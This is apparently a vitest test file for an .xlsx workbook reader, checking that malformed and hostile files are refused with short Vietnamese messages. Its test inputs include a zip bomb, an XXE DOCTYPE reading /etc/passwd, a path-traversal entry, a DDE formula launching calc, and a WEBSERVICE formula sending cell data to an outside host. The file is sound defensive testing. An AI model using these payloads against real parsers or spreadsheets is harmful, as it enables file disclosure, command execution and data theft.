import { strToU8, zipSync } from "fflate";
import { writeXlsx } from "hucre";
import { describe, expect, test } from "vitest";
import { readReturned } from "../../../src/reading/returned/read-returned.ts";
import { readGrids } from "../../../src/xlsx/source/read-grids.ts";
import { sampleBytes } from "../../reading/returned/sample-form.ts";

const CONTENT = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>';
const RELS = (type: string, target: string, mode = ""): string =>
  `<Relationships><Relationship Id="r1" Type="http://x/${type}" Target="${target}"${mode}/></Relationships>`;

/** A workbook of one sheet with this XML. */
function workbook(sheet: string, more: Readonly<Record<string, string>> = {}): Uint8Array {
  const parts: Record<string, string> = {
    "[Content_Types].xml": CONTENT,
    "_rels/.rels": RELS("officeDocument", "xl/workbook.xml"),
    "xl/workbook.xml": '<workbook><sheets><sheet name="A" sheetId="1" r:id="r1"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": RELS("worksheet", "worksheets/sheet1.xml"),
    "xl/worksheets/sheet1.xml": sheet,
    ...more,
  };
  return zipSync(Object.fromEntries(Object.entries(parts).map(([path, xml]) => [path, strToU8(xml)])));
}

const cells = (xml: string): string => `<worksheet><sheetData>${xml}</sheetData></worksheet>`;
const cell = (name: string, value: string): string => `<c r="${name}"><v>${value}</v></c>`;

/** What the reader says of bytes, and how long it takes at the most. */
function told(bytes: Uint8Array): string {
  const begin = process.cpuUsage();
  const read = readGrids(bytes);
  const { user, system } = process.cpuUsage(begin);
  expect((user + system) / 1e6).toBeLessThan(8);
  return read.ok ? JSON.stringify(read.grids) : read.why;
}

describe("bytes that are no workbook, or are made to harm", () => {
  const broken = sampleBytes();
  const compound = Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...new Uint8Array(600)]);
  const bomb = zipSync({
    "[Content_Types].xml": strToU8(CONTENT),
    "xl/worksheets/sheet1.xml": new Uint8Array(200 * 2 ** 20),
  });
  /** A directory that says less than its part holds. */
  const liar = (): Uint8Array => {
    const bytes = new Uint8Array(bomb);
    const view = new DataView(bytes.buffer);
    for (let at = 0; at < bytes.length - 46; at += 1)
      if (view.getUint32(at, true) === 0x02014b50 && view.getUint32(at + 24, true) > 1e6)
        view.setUint32(at + 24, 500, true);
    return bytes;
  };
  const rows = Array.from(
    { length: 30_000 },
    (_, at) => `<row r="${at + 1}">${cell(`A${at + 1}`, "1")}</row>`,
  ).join("");

  test.each<readonly [string, Uint8Array, RegExp]>([
    ["nothing", new Uint8Array(), /^Tệp trống/u],
    ["a text, as .csv is", strToU8("Việc;Ngày\n1;2"), /CSV/u],
    ["a web page", strToU8("<html><table/></html>"), /trang web/u],
    ["a PDF", strToU8("%PDF-1.7"), /PDF/u],
    ["an old .xls", compound, /kiểu cũ \(\.xls hoặc \.doc\)/u],
    [
      "a file with a password",
      Uint8Array.from([...compound, ...strToU8([..."EncryptedPackage"].join("\0"))]),
      /mật khẩu/u,
    ],
    ["an .ods", zipSync({ mimetype: strToU8("x"), "content.xml": strToU8("<a/>") }), /OpenDocument/u],
    [
      "a .docx",
      zipSync({ "[Content_Types].xml": strToU8(CONTENT), "word/document.xml": strToU8("<a/>") }),
      /tệp Word/u,
    ],
    ["a .zip of files", zipSync({ "a.xlsx": strToU8("x") }), /giải nén/u],
    [
      "an .xlsb",
      zipSync({ "[Content_Types].xml": strToU8(CONTENT), "xl/workbook.bin": strToU8("x") }),
      /xlsb/u,
    ],
    ["half a file", broken.subarray(0, broken.length / 2), /hỏng/u],
    [
      "a file with bytes turned",
      broken.map((byte, at) => (at > 200 && at < 3000 ? byte ^ 0x55 : byte)),
      /hỏng/u,
    ],
    ["a zip bomb", bomb, /nở ra quá 32 MB/u],
    ["a zip bomb that lies", liar(), /nở ra quá 32 MB|hỏng/u],
    ["more rows than a form has", workbook(cells(rows)), /quá nhiều dòng/u],
    [
      "entities of its own",
      workbook(`<!DOCTYPE x [<!ENTITY a "aaaa">]>${cells(cell("A1", "&a;"))}`),
      /DOCTYPE/u,
    ],
    ["a file of the machine", workbook(`<!DOCTYPE x SYSTEM "file:///etc/passwd">${cells("")}`), /DOCTYPE/u],
    [
      "XML that is not closed",
      workbook("<worksheet><sheetData><row r='1'><c r='A1'><v>1"),
      /Trang “A” bị hỏng/u,
    ],
    ["a path out of the package", workbook(cells(""), { "../../evil.xml": "<a/>" }), /đường dẫn lạ/u],
  ])("%s is told in one sentence", (_what, bytes, sentence) => {
    const why = told(bytes);
    expect(why).toMatch(sentence);
    expect(why).toMatch(/^\p{Lu}.*\.$/u);
    expect(why.length).toBeLessThan(260);
    // The reader's own words stay inside.
    expect(why).not.toMatch(/Error|undefined|null/u);
  });

  test("no bytes make the reader throw or wait", () => {
    const whole = sampleBytes();
    for (let turn = 0; turn < 120; turn += 1) {
      const bytes = new Uint8Array(whole);
      for (let hit = 0; hit < 6; hit += 1) {
        const at = (turn * 7919 + hit * 104_729) % bytes.length;
        bytes[at] = (bytes[at] ?? 0) ^ (1 << ((turn + hit) % 8));
      }
      const { kind } = readReturned(
        "x.xlsx",
        bytes.subarray(0, turn % 5 === 0 ? (turn * 131) % bytes.length : bytes.length),
      );
      expect(["form", "foreign", "refused"]).toContain(kind);
    }
  });
});

describe("what is strange and harmless", () => {
  test("a sheet that says it has all rows and columns is read by its cells", () => {
    const xml = `<worksheet><dimension ref="A1:XFD1048576"/><sheetData><row r="1048576">${cell("XFD1048576", "7")}</row></sheetData></worksheet>`;
    expect(JSON.parse(told(workbook(xml)))).toEqual([
      {
        name: "A",
        hidden: false,
        rows: [
          { at: 1_048_576, cells: [{ column: 16_384, value: 7, shows: "plain", formula: "", merged: "" }] },
        ],
      },
    ]);
  });

  test("a merged block over the whole sheet costs nothing", () => {
    const xml = `<worksheet><sheetData><row r="1">${cell("A1", "7")}</row><row r="900000">${cell("A900000", "8")}</row></sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells></worksheet>`;
    expect(told(workbook(xml))).toContain('"at":900000');
  });

  test("thousands of merged blocks cost nothing", () => {
    const blocks = Array.from({ length: 5000 }, (_, at) => `<mergeCell ref="A${at + 1}:XFD1048576"/>`).join(
      "",
    );
    const xml = `<worksheet><sheetData><row r="1">${cell("A1", "7")}</row></sheetData><mergeCells>${blocks}</mergeCells></worksheet>`;
    expect(told(workbook(xml))).toContain('"value":7');
  });

  test("a sheet as large as may be is read in time", () => {
    const row = (at: number) =>
      `<row r="${at}">${["A", "B", "C", "D", "E"].map((column) => cell(`${column}${at}`, "123456789")).join("")}</row>`;
    const xml = cells(Array.from({ length: 19_999 }, (_, at) => row(at + 1)).join(""));
    expect(told(workbook(xml)).length).toBeGreaterThan(1_000_000);
  });

  test("links to elsewhere are not followed, macros not run", () => {
    const away = {
      "xl/_rels/workbook.xml.rels": RELS("worksheet", "http://example.org/a.xml", ' TargetMode="External"'),
      "xl/vbaProject.bin": "x",
    };
    const read = readGrids(workbook(cells(""), away));
    expect(read).toMatchObject({ ok: true, grids: [], macros: true });
  });

  test.each([
    ['=HYPERLINK("http://example.org","12/BC")', true],
    ['=WEBSERVICE("http://example.org/"&A1)', true],
    ["='[1]Sheet'!A1", true],
    ["=cmd|'/C calc'!A0", true],
    ["=1+1", false],
  ])("the formula %s is never taken over as one", async (formula, reaches) => {
    const bytes = await writeXlsx({
      sheets: [
        {
          name: "Chỉ tiêu",
          rows: [
            ["⚙Dòng", "Chỉ tiêu", "Mức giao", "Kết quả"],
            ["A", "A", "1", null],
          ],
          cells: new Map([["1,3", { formula: formula.slice(1), formulaResult: "99" }]]),
        },
        {
          name: "⚙Gốc",
          hidden: true,
          rows: [
            [
              JSON.stringify({
                format: 1,
                purpose: "unit",
                office: "o",
                unit: "u",
                unitName: "U",
                campaigns: ["c"],
                sentAt: "",
                sentBy: "",
                seal: "",
              }),
            ],
            [],
            ["Chỉ tiêu", "A", "name", "A"],
            ["Chỉ tiêu", "A", "assigned", "1"],
          ],
        },
      ],
    });
    const read = readReturned("x.xlsx", bytes);
    if (read.kind !== "form") throw new Error(JSON.stringify(read));
    expect(read.form.sheets[0]?.rows[0]?.cells).toEqual(reaches ? {} : { result: "99" });
    expect(read.form.doubts.map(({ grade, place }) => [grade, place])).toEqual([
      [reaches ? "refuse" : "look", "Chỉ tiêu dòng 2 (A), cột Kết quả"],
    ]);
  });
});
